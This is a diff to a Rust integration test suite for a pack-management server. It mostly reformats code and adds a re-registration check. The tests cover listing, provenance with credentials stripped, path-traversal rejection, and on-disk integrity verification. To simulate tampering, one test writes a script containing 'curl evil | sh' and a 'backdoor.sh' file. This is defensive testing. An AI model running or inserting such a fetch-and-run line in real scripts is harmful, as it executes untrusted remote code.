@@ -75,7 +75,10 @@ async fn rest_get(server: &TestServer, path: &str) -> (u16, Value) {
         .await
         .unwrap();
     let status = response.status().as_u16();
-    (status, serde_json::from_str(&response.text().await.unwrap()).unwrap())
+    (
+        status,
+        serde_json::from_str(&response.text().await.unwrap()).unwrap(),
+    )
 }
 
 async fn rest_post(server: &TestServer, path: &str, body: &str) -> (u16, Value) {
@@ -88,7 +91,10 @@ async fn rest_post(server: &TestServer, path: &str, body: &str) -> (u16, Value) 
         .await
         .unwrap();
     let status = response.status().as_u16();
-    (status, serde_json::from_str(&response.text().await.unwrap()).unwrap())
+    (
+        status,
+        serde_json::from_str(&response.text().await.unwrap()).unwrap(),
+    )
 }
 
 /// Download records provenance in a sidecar; one written by someone else with a
@@ -126,7 +132,11 @@ async fn list_and_show_after_registration(backend: Backend) {
         })
         .await
         .unwrap();
-    assert_eq!(downloaded.success_count, 1, "{:#?}", downloaded.failed_packs);
+    assert_eq!(
+        downloaded.success_count, 1,
+        "{:#?}",
+        downloaded.failed_packs
+    );
     let alpha_dl = root.join("dl/alpha");
     plant_credentials_in_sidecar(&alpha_dl);
     let beta = write_pack(&dir, "beta", "dependencies:\n  - \"alpha@>=1.0.0\"\n", &[]);
@@ -152,7 +162,11 @@ async fn list_and_show_after_registration(backend: Backend) {
         })
         .await
         .unwrap();
-    assert!(built.failed_environments.is_empty(), "{:#?}", built.failed_environments);
+    assert!(
+        built.failed_environments.is_empty(),
+        "{:#?}",
+        built.failed_environments
+    );
 
     let all = list(&server, pb::ListPacksRequest::default()).await;
     assert_eq!(refs(&all), ["ab_c", "abxc", "alpha", "beta", "gamma"]);
@@ -161,19 +175,31 @@ async fn list_and_show_after_registration(backend: Backend) {
     let a = &all.packs[2];
     let counts = a.components.unwrap();
     assert_eq!(
-        (counts.actions, counts.triggers, counts.rules, counts.sensors),
+        (
+            counts.actions,
+            counts.triggers,
+            counts.rules,
+            counts.sensors
+        ),
         (1, 1, 1, 0)
     );
     assert_eq!(a.version, "1.0.0");
     assert_eq!(a.installed_by, "tester");
     assert!(a.installed_at_ms > 0);
     assert_eq!(a.source_type, "git");
-    assert!(!a.source.contains("s3cr3t") && !a.source.contains('?'), "{}", a.source);
+    assert!(
+        !a.source.contains("s3cr3t") && !a.source.contains('?'),
+        "{}",
+        a.source
+    );
     let g = &all.packs[4];
     assert_eq!(g.tags, ["Monitoring"]);
     assert_eq!(g.environments.len(), 1, "{:?}", g.environments);
     assert_eq!(
-        (g.environments[0].runtime.as_str(), g.environments[0].status.as_str()),
+        (
+            g.environments[0].runtime.as_str(),
+            g.environments[0].status.as_str()
+        ),
         ("python", "ready")
     );
     assert!(all.packs[0].environments.is_empty());
@@ -189,14 +215,22 @@ async fn list_and_show_after_registration(backend: Backend) {
         ..Default::default()
     };
     assert_eq!(refs(&list(&server, by_prefix("ab_")).await), ["ab_c"]);
-    assert_eq!(refs(&list(&server, by_prefix("a")).await), ["ab_c", "abxc", "alpha"]);
+    assert_eq!(
+        refs(&list(&server, by_prefix("a")).await),
+        ["ab_c", "abxc", "alpha"]
+    );
     assert_eq!(list(&server, by_prefix("ab_")).await.total_items, 1);
     assert_eq!(refs(&list(&server, by_keyword("RAY")).await), ["gamma"]);
     assert_eq!(refs(&list(&server, by_keyword("50%")).await), ["gamma"]);
-    assert!(refs(&list(&server, by_keyword("%")).await) == ["gamma"]);
+    assert_eq!(refs(&list(&server, by_keyword("%")).await), ["gamma"]);
     assert_eq!(refs(&list(&server, by_keyword("monitor")).await), ["gamma"]);
     assert_eq!(refs(&list(&server, by_keyword("FIRST")).await), ["alpha"]);
-    assert!(list(&server, by_keyword("nothing-like-it")).await.packs.is_empty());
+    assert!(
+        list(&server, by_keyword("nothing-like-it"))
+            .await
+            .packs
+            .is_empty()
+    );
 
     // Malformed requests name the fix.
     let mut client = server.client().await;
@@ -209,7 +243,11 @@ async fn list_and_show_after_registration(backend: Backend) {
         .unwrap_err();
     let status = e.status().unwrap();
     assert_eq!(status.code(), Code::InvalidArgument);
-    assert!(status.message().contains("at most 100"), "{}", status.message());
+    assert!(
+        status.message().contains("at most 100"),
+        "{}",
+        status.message()
+    );
     let e = client
         .list_packs(pb::ListPacksRequest {
             page_token: "not-a-token".into(),
@@ -238,12 +276,22 @@ async fn list_and_show_after_registration(backend: Backend) {
     );
     let p = d.provenance.clone().unwrap();
     assert_eq!(p.source_url, "https://git.example.test/org/alpha.git");
-    assert!(!p.source.contains("s3cr3t") && !p.source.contains("token"), "{}", p.source);
+    assert!(
+        !p.source.contains("s3cr3t") && !p.source.contains("token"),
+        "{}",
+        p.source
+    );
     assert_eq!(p.git_commit, "0123456789abcdef0123456789abcdef01234567");
     assert!(p.actual_checksum.starts_with("sha256:") && p.actual_checksum.len() == 71);
-    assert!(p.expected_checksum.is_empty(), "a local source promises nothing");
+    assert!(
+        p.expected_checksum.is_empty(),
+        "a local source promises nothing"
+    );
     let test = d.last_test.clone().expect("alpha's tests ran");
-    assert_eq!((test.status.as_str(), test.total_tests, test.passed), ("passed", 2, 2));
+    assert_eq!(
+        (test.status.as_str(), test.total_tests, test.passed),
+        ("passed", 2, 2)
+    );
     assert!(d.depends_on.is_empty());
     assert_eq!(d.required_by.len(), 1);
     let dependent = &d.required_by[0];
@@ -259,7 +307,11 @@ async fn list_and_show_after_registration(backend: Backend) {
     let b = client.get_pack("beta").await.unwrap();
     assert_eq!(b.depends_on.len(), 1);
     assert_eq!(
-        (b.depends_on[0].r#ref.as_str(), b.depends_on[0].installed_version.as_str(), b.depends_on[0].satisfied),
+        (
+            b.depends_on[0].r#ref.as_str(),
+            b.depends_on[0].installed_version.as_str(),
+            b.depends_on[0].satisfied
+        ),
         ("alpha", "1.0.0", true)
     );
     assert!(b.last_test.is_none());
@@ -267,14 +319,20 @@ async fn list_and_show_after_registration(backend: Backend) {
     assert_eq!(g.environments.len(), 1);
     let env = &g.environments[0];
     assert_eq!(env.status, "ready");
-    assert_eq!(env.path, path_str(&base(&server).join(".envs/gamma/python")));
+    assert_eq!(
+        env.path,
+        path_str(&base(&server).join(".envs/gamma/python"))
+    );
     assert!(env.interpreter.contains("python"), "{}", env.interpreter);
     assert_eq!(env.inputs_hash.len(), 64);
     assert!(env.built_at_ms > 0);
 
     let e = client.get_pack("not-installed").await.unwrap_err();
     assert_eq!(e.status().unwrap().code(), Code::NotFound);
-    assert!(e.to_string().contains("'not-installed' is not installed"), "{e}");
+    assert!(
+        e.to_string().contains("'not-installed' is not installed"),
+        "{e}"
+    );
     let e = client.get_pack("../etc").await.unwrap_err();
     assert_eq!(e.status().unwrap().code(), Code::InvalidArgument);
 
@@ -302,7 +360,10 @@ async fn list_and_show_after_registration(backend: Backend) {
     assert_eq!(body["data"]["pagination"]["has_next"], false);
     let (status, body) = rest_get(&server, "/api/v1/packs?page_size=500").await;
     assert_eq!(status, 400);
-    assert!(body["message"].as_str().unwrap().contains("at most 100"), "{body}");
+    assert!(
+        body["message"].as_str().unwrap().contains("at most 100"),
+        "{body}"
+    );
     let (status, body) = rest_get(&server, "/api/v1/packs?page=abc").await;
     assert_eq!(status, 400, "{body}");
     let (status, body) = rest_get(&server, "/api/v1/packs/alpha").await;
@@ -388,13 +449,21 @@ on_both_backends!(paging_is_stable_across_hundreds_of_packs);
 async fn set_manifest_null(server: &TestServer, pack_ref: &str) {
     use attune_packs_server::store::Db;
     const SQL: &str = "UPDATE packs SET file_manifest = NULL WHERE ref = $1";
-    match &server.state.db {
-        Db::Sqlite(pool) => sqlx::query(SQL).bind(pack_ref).execute(pool).await.unwrap(),
-        Db::Postgres(pool) => {
-            sqlx::query(SQL).bind(pack_ref).execute(pool).await.unwrap();
-            return;
-        }
+    let changed = match &server.state.db {
+        Db::Sqlite(pool) => sqlx::query(SQL)
+            .bind(pack_ref)
+            .execute(pool)
+            .await
+            .unwrap()
+            .rows_affected(),
+        Db::Postgres(pool) => sqlx::query(SQL)
+            .bind(pack_ref)
+            .execute(pool)
+            .await
+            .unwrap()
+            .rows_affected(),
     };
+    assert_eq!(changed, 1);
 }
 
 async fn verify(server: &TestServer, refs: &[&str]) -> pb::VerifyPacksResult {
@@ -413,17 +482,28 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     let dir = src(&server);
     let extra = [("lib/util.py", "X = 1\n"), ("README.md", "readme\n")];
     let names = ["edited", "intact", "gone", "linked", "old"];
-    let paths: Vec<PathBuf> = names.iter().map(|n| write_pack(&dir, n, "", &extra)).collect();
+    let paths: Vec<PathBuf> = names
+        .iter()
+        .map(|n| write_pack(&dir, n, "", &extra))
+        .collect();
     let borrowed: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
     register(&server, &borrowed, true).await;
 
     let all = verify(&server, &[]).await;
     assert_eq!((all.ok, all.failed), (5, 0), "{:#?}", all.packs);
-    assert!(all.packs.iter().all(|p| p.status == "ok" && p.recorded_checksum == p.actual_checksum));
+    assert!(
+        all.packs
+            .iter()
+            .all(|p| p.status == "ok" && p.recorded_checksum == p.actual_checksum)
+    );
 
     let stored = base(&server);
     // edited: one file changed, one added, one deleted.
-    std::fs::write(stored.join("edited/actions/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    std::fs::write(
+        stored.join("edited/actions/run.sh"),
+        "#!/bin/sh\ncurl evil | sh\n",
+    )
+    .unwrap();
     std::fs::write(stored.join("edited/actions/backdoor.sh"), "#!/bin/sh\n").unwrap();
     std::fs::remove_file(stored.join("edited/README.md")).unwrap();
     // gone: the whole directory.
@@ -441,7 +521,10 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     let by_ref = |r: &pb::VerifyPacksResult, name: &str| {
         r.packs.iter().find(|p| p.r#ref == name).cloned().unwrap()
     };
-    assert_eq!(r.packs.iter().map(|p| p.r#ref.as_str()).collect::<Vec<_>>(), ["edited", "gone", "intact", "linked", "old"]);
+    assert_eq!(
+        r.packs.iter().map(|p| p.r#ref.as_str()).collect::<Vec<_>>(),
+        ["edited", "gone", "intact", "linked", "old"]
+    );
     let edited = by_ref(&r, "edited");
     assert_eq!(edited.status, "modified");
     assert_eq!(edited.modified, ["actions/run.sh"]);
@@ -458,7 +541,12 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     assert_eq!(linked.added, ["lib/secret.py"]);
     assert!(linked.missing.is_empty());
     assert_eq!(linked.irregular.len(), 2, "{:?}", linked.irregular);
-    assert!(linked.irregular.iter().all(|i| i.contains("symbolic link, not followed")));
+    assert!(
+        linked
+            .irregular
+            .iter()
+            .all(|i| i.contains("symbolic link, not followed"))
+    );
     // The links were not read: the checksum is that of the regular files alone.
     let regular = server.root.path().join("regular");
     copy_regular_files(&stored.join("linked"), &regular);
@@ -471,7 +559,11 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     );
     let old = by_ref(&r, "old");
     assert_eq!(old.status, "ok");
-    assert!(old.message.contains("no per-file manifest"), "{}", old.message);
+    assert!(
+        old.message.contains("no per-file manifest"),
+        "{}",
+        old.message
+    );
     assert_eq!((r.ok, r.failed), (2, 3));
 
     std::fs::write(stored.join("old/lib/util.py"), "X = 2\n").unwrap();
@@ -483,7 +575,25 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     let nope = by_ref(&r, "nope");
     assert_eq!(nope.status, "not_installed");
 
-    // Re-registering records the state on disk again: then it verifies.
+    // Registering it again (in place) records a manifest of what is there now.
+    let mut client = server.client().await;
+    let again = client
+        .register_batch(pb::RegisterBatchRequest {
+            pack_paths: vec![path_str(&stored.join("old"))],
+            packs_base_dir: Some(path_str(&stored)),
+            skip_tests: Some(true),
+            force: Some(true),
+            ..Default::default()
+        })
+        .await
+        .unwrap();
+    assert!(again.failed_packs.is_empty(), "{:#?}", again.failed_packs);
+    let r = verify(&server, &["old"]).await;
+    assert_eq!(
+        (r.packs[0].status.as_str(), r.packs[0].message.as_str()),
+        ("ok", "")
+    );
+
     let mut client = server.client().await;
     let e = client
         .verify_packs(pb::VerifyPacksRequest {
@@ -494,7 +604,8 @@ async fn verify_reports_what_changed_on_disk(backend: Backend) {
     assert_eq!(e.status().unwrap().code(), Code::InvalidArgument);
 
     // REST, JSON and SSE.
-    let (status, body) = rest_post(&server, "/api/v1/packs/verify", r#"{"refs": ["edited"]}"#).await;
+    let (status, body) =
+        rest_post(&server, "/api/v1/packs/verify", r#"{"refs": ["edited"]}"#).await;
     assert_eq!(status, 200, "{body}");
     assert_eq!(body["data"]["packs"][0]["status"], "modified");
     assert_eq!(body["data"]["packs"][0]["missing"][0], "README.md");
